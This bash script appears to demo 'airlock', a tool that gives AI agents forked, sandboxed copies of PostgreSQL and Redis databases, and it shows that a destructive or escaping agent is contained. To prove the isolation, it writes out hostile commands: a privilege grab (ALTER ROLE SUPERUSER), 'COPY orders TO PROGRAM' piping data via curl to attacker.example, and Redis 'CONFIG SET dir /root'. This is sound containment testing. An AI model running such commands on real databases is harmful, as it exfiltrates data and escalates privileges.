#!/usr/bin/env bash
# The main job end to end: build a golden of a small shop (tens of thousands of
# rows), fork two sandboxes, let an "agent" run a destructive statement in one,
# and show that the other sandbox and the golden still hold every row. Then clean up.
set -euo pipefail
cd "$(dirname "$0")/.."

airlock() { ./target/release/airlock "$@"; }
export AIRLOCK_HOME=${AIRLOCK_DEMO_HOME:-/var/lib/airlock-demo}
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
count() { airlock psql "$1" -- -XtAc "SELECT count(*) FROM orders"; }

cleanup() {
  airlock rm agent-a agent-b agent-17 auditor cache-a cache-b >/dev/null 2>&1 || true
  airlock golden rm shop17 --force >/dev/null 2>&1 || true
  airlock golden rm cached --force >/dev/null 2>&1 || true
  airlock golden rm shop --force >/dev/null 2>&1 || true
  airlock daemon stop --with-router >/dev/null 2>&1 || true
  if mountpoint -q "$AIRLOCK_HOME/volume" 2>/dev/null; then umount -l "$AIRLOCK_HOME/volume"; fi
  rm -rf "$AIRLOCK_HOME"
}
trap cleanup EXIT
cleanup

step "Storage"
if [ "$(id -u)" -eq 0 ]; then
  airlock storage init --size 8G
else
  echo "warning: not root, so no copy-on-write volume can be made; forks will copy every byte (slow)" >&2
fi
airlock doctor

step "Build the golden 'shop' from examples/demo (schema + seed)"
airlock golden create shop --schema examples/demo/schema.sql --seed examples/demo/seed.sql
airlock psql "$(airlock fork shop --name auditor --ttl 5m >/dev/null; echo auditor)" -- -XAc \
  "SELECT 'customers' AS t, count(*) FROM customers UNION ALL SELECT 'products', count(*) FROM products
   UNION ALL SELECT 'orders', count(*) FROM orders UNION ALL SELECT 'order_items', count(*) FROM order_items" \
  | column -t -s'|'
airlock rm auditor >/dev/null

step "Fork two sandboxes, one per agent task"
start=$(date +%s%N)
export DATABASE_URL=$(airlock fork shop --name agent-a --ttl 10m --label task=cleanup --statement-timeout 5s)
end=$(date +%s%N)
airlock fork shop --name agent-b --ttl 10m --label task=report >/dev/null
echo "agent-a's DATABASE_URL is ready (fork took $(( (end - start) / 1000000 )) ms, CLI included):"
echo "  ${DATABASE_URL/airlock_agent:*@/airlock_agent:********@}"
echo "  (one TLS port for every sandbox; the database name picks the sandbox)"
airlock ls

step "Agent A runs its confident, destructive statement"
echo "agent-a> DELETE FROM orders WHERE status = 'pending' OR TRUE;"
airlock psql agent-a -- -Xc "DELETE FROM orders WHERE status = 'pending' OR TRUE"
echo "orders in agent-a: $(count agent-a)"

step "Agent A tries to reach past its sandbox"
for attempt in \
  "ALTER ROLE airlock_agent SUPERUSER" \
  "ALTER ROLE airlock_agent PASSWORD 'now-only-i-know-it'" \
  "ALTER DATABASE app SET search_path = evil, pg_catalog" \
  "COPY orders TO PROGRAM 'curl -d @- https://attacker.example'" \
  "SET statement_timeout = 0; SELECT pg_sleep(3600)"; do
  echo "agent-a> $attempt;"
  if [ "${attempt#SET statement_timeout}" != "$attempt" ]; then
    # Its own 5 s limit lifted, the runaway is ended from outside by the watchdog.
    start=$(date +%s)
    airlock psql agent-a -- -Xc "$attempt" 2>&1 | grep -E 'ERROR' | sed 's/^/  /' || true
    echo "  (ended by the watchdog after $(( $(date +%s) - start )) s, not 3600)"
  else
    airlock psql agent-a -- -Xc "$attempt" 2>&1 | grep -E 'ERROR|DETAIL' | sed 's/^/  /' || true
  fi
done

step "Nothing else changed"
echo "orders in agent-b:           $(count agent-b)"
airlock fork shop --name auditor --ttl 5m >/dev/null
echo "orders in a fresh fork of the golden: $(count auditor)"

step "An idle sandbox is suspended, and wakes on its next connection"
airlock suspend agent-b
airlock ls
start=$(date +%s%N)
echo "orders in agent-b, through the router: $(psql "$(airlock dsn agent-b)" -XtAc 'SELECT count(*) FROM orders')"
end=$(date +%s%N)
echo "(that connection woke it: $(( (end - start) / 1000000 )) ms, psql included)"

step "What an agent gets instead of a DSN: MCP tools (airlock mcp)"
echo "An MCP client starts 'airlock mcp --golden shop'; the session gets its own sandbox."
echo "Here a scripted client lists the tools and makes two calls over stdio:"
python3 - <<'PY'
import json, subprocess
mcp = subprocess.Popen(["./target/release/airlock", "mcp", "--golden", "shop", "--ttl", "5m", "--label", "demo=mcp"],
                       stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
def send(msg):
    mcp.stdin.write(json.dumps(msg) + "\n"); mcp.stdin.flush()
def ask(i, method, params):
    send({"jsonrpc": "2.0", "id": i, "method": method, "params": params})
    return json.loads(mcp.stdout.readline())["result"]
ask(1, "initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "demo", "version": "1"}})
send({"jsonrpc": "2.0", "method": "notifications/initialized"})
for tool in ask(2, "tools/list", {})["tools"]:
    print("tool %s: input %s" % (tool["name"], list(tool["inputSchema"]["properties"])))
sql = "UPDATE orders SET status = 'cancelled' WHERE id % 10 = 0; SELECT status, count(*) FROM orders GROUP BY 1 ORDER BY 1"
for i, (name, args) in enumerate([("run_sql", {"sql": sql}), ("changes_since_fork", {})], start=3):
    print("--- %s ---" % name)
    print(ask(i, "tools/call", {"name": name, "arguments": args})["content"][0]["text"])
mcp.stdin.close()
mcp.wait()
PY
echo "(the session ended, so its sandbox was deleted; no tool ever showed a DSN)"

step "Test two candidate migrations on forks with the real data"
migrations=$(mktemp -d)
echo "ALTER TABLE orders ADD COLUMN gift boolean NOT NULL DEFAULT false;" > "$migrations/gift_constant_default.sql"
echo "ALTER TABLE orders ADD COLUMN received_at timestamptz DEFAULT clock_timestamp();" > "$migrations/received_volatile_default.sql"
head -n1 "$migrations"/*.sql
airlock migrate test --golden shop "$migrations"/*.sql || true
rm -rf "$migrations"

step "A golden on the PostgreSQL major production runs: 17 beside the host's own"
airlock postgres install 17
airlock daemon stop >/dev/null   # the daemon finds new majors at start
airlock golden create shop17 --postgres 17 --schema examples/demo/schema.sql --seed examples/demo/seed.sql >/dev/null
airlock fork shop17 --name agent-17 --ttl 5m >/dev/null
for sb in agent-a agent-17; do
  echo "$sb: $(airlock psql "$sb" -- -XtAc "SELECT current_setting('server_version') || ', ' || count(*) || ' orders' FROM orders")"
done
airlock rm agent-17 >/dev/null
airlock golden rm shop17 >/dev/null

step "Redis beside PostgreSQL: every fork gets its own"
airlock golden create cached --schema examples/demo/schema.sql --seed examples/demo/seed.sql \
  --redis-seed "$PWD/examples/demo/cache.redis" >/dev/null
airlock golden show cached | tail -n 1
airlock fork cached --name cache-a --ttl 5m >/dev/null
airlock fork cached --name cache-b --ttl 5m >/dev/null
# redis-cli through the router's Redis port, TLS verified against Airlock's CA;
# the password goes in its environment, never on a command line.
rcli() {
  local url rest auth hostport
  url=$(airlock dsn "$1" --redis); shift
  rest=${url#*://}; auth=${rest%@*}; hostport=${rest##*@}
  REDISCLI_AUTH=${auth#*:} redis-cli --tls --cacert "$AIRLOCK_HOME/tls/ca.crt" -h "${hostport%:*}" \
    -p "${hostport##*:}" --user "${auth%%:*}" --no-auth-warning "$@"
}
echo "cache-a> FLUSHALL: $(rcli cache-a FLUSHALL)"
echo "keys in cache-a: $(rcli cache-a DBSIZE), in cache-b: $(rcli cache-b DBSIZE)"
echo "cache-b> HGETALL cart:1 -> $(rcli cache-b HGETALL cart:1 | paste -sd' ')"
echo "cache-a> CONFIG SET dir /root -> $(rcli cache-a CONFIG SET dir /root 2>&1 | head -c 60)..."
airlock rm cache-a cache-b >/dev/null
airlock golden rm cached >/dev/null

step "Events"
airlock events --limit 12

step "Clean up"
airlock rm agent-a agent-b auditor
airlock golden rm shop
echo "done: sandboxes and golden deleted"
